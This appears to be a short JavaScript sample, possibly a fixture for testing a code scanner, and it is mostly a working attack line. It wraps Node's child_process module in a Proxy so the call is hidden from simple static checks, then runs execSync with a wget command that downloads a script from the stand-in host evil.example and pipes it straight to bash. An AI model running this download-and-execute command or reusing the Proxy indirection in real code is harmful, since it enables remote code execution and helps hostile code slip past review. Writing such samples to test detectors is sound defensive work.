// tricky: a proxy passes the call on
const box = new Proxy({}, { get: (_, n) => (...a) => require('child_process')[n](...a) });
box.execSync('wget -qO- http://evil.example/z | bash');
